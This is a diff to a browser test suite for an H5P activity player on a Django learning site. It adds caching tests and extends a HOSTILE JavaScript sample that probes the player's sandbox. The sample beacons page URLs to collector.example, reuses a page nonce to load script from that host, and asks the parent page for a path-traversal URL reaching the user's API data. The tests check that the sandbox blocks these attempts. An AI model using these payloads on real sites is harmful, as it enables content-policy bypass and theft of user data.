@@ -4,6 +4,7 @@ import json
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 from django.conf import LazySettings
@@ -122,6 +123,46 @@ def test_an_ended_session_keeps_the_answers_on_the_device(
     assert H5PResult.objects.get().percent == 75
 
 
+def test_a_frame_asks_for_its_document_and_the_page_for_the_code(
+    page: Page, sign_in: SignIn, enrolment: Enrolment, lesson: Any
+) -> None:
+    """A frame without an origin has no lasting cache in the browser; the page has one."""
+    asked: list[tuple[str, bool]] = []
+    page.on(
+        "request",
+        lambda each: asked.append((urlsplit(each.url).path, each.frame == page.main_frame)),
+    )
+    activity = h5p.make_interactive(lesson)
+    sign_in(enrolment.user)
+
+    page.goto(activity.public_path())
+    expect(player_of(page).get_by_label("Rhône")).to_be_visible()
+
+    # Its fonts it fetches when something is shown in them.
+    by_frame = [path for path, is_page in asked if not is_page and not path.endswith(".woff2")]
+    code = [path for path, is_page in asked if is_page and path.startswith("/h5p/")]
+    assert [path.split("/")[2] for path in by_frame] == ["frame"]
+    assert sorted(path.split("/")[2] for path in code) == ["bundles"] * 2 + ["core"] * 3
+
+
+def test_a_frame_without_help_fetches_its_code_by_itself(
+    page: Page, context: BrowserContext, sign_in: SignIn, enrolment: Enrolment, lesson: Any
+) -> None:
+    activity = h5p.make_interactive(lesson)
+    sign_in(enrolment.user)
+    # The script of the page around stays away, as it may on a bad connection.
+    nothing = "export function startPlayer() {}"
+    context.route(
+        "**/chunks/player-*",
+        lambda route: route.fulfill(body=nothing, content_type="text/javascript"),
+    )
+
+    page.goto(activity.public_path())
+
+    # It waits four seconds for the page first.
+    expect(player_of(page).get_by_label("Rhône")).to_be_visible(timeout=15_000)
+
+
 HOSTILE = """function () {
   H5P.EventDispatcher.call(this);
   this.attach = function ($container) {
@@ -174,6 +215,16 @@ HOSTILE = """function () {
     image.onload = function () { tried.image = 'worked'; };
     image.onerror = function () { tried.image = 'refused'; };
     image.src = 'https://collector.example/pixel.png?' + encodeURIComponent(location.href);
+    // The nonce is known to whoever runs here; what carries it may not come from elsewhere.
+    [['script', 'src', ''], ['link', 'href', 'modulepreload'], ['link', 'href', 'preload']]
+      .forEach(function (kind) {
+        var element = document.createElement(kind[0]);
+        element.nonce = document.querySelector('script').nonce;
+        if (kind[2]) { element.rel = kind[2]; element.as = 'script'; }
+        element.onload = function () { tried[kind.join(' ')] = 'worked'; };
+        element[kind[1]] = 'https://collector.example/' + kind.join('-') + '.js?stolen';
+        document.head.append(element);
+      });
     attempt('worker', function () { new SharedWorker(home + '/static/app.js'); return 'made'; });
     attempt('service worker', function () { return navigator.serviceWorker.controller; });
     // As the bridge would say it: about another activity, as another person, as nonsense.
@@ -193,6 +244,14 @@ HOSTILE = """function () {
                                 height: 1e9 }, '*');
     window.parent.postMessage({ from: 'h5p-frame', token: token, kind: 'state',
       dataType: 'state', subContentId: '0', data: { not: 'text' } }, '*');
+    tried['code of pages'] = 'waiting';
+    window.addEventListener('message', function (event) {
+      if (event.data && event.data.kind === 'code') {
+        tried['code of pages'] = event.data.texts ? 'worked' : 'refused';
+      }
+    });
+    window.parent.postMessage({ from: 'h5p-frame', token: token, kind: 'code',
+      urls: [home + '/h5p/core/..%2f..%2fapi/v1/me/'] }, '*');
     $container.append('<a href="' + home + '/stolen/" target="_top">Out</a>');
     $container.append('<a href="https://collector.example/" target="_self">Away</a>');
   };
@@ -297,6 +356,11 @@ def _write(player: FrameLocator) -> None:
     player.locator(".h5p-question-check-answer").click()
 
 
+def _say_true(player: FrameLocator) -> None:
+    player.locator(".h5p-true-false-answer").first.click()
+    player.locator(".h5p-question-check-answer").click()
+
+
 def _check_only(player: FrameLocator) -> None:
     player.locator(".h5p-question-check-answer").first.click()
 
@@ -309,6 +373,7 @@ REAL: dict[str, Steps] = {
     "jamestagal__H5P.Summary-1.10": _summarise,
     "moodle__basic_essay": _write,
     "moodle__drag": _check_only,
+    "tunapanda__h5p-test": _say_true,
 }
 
 
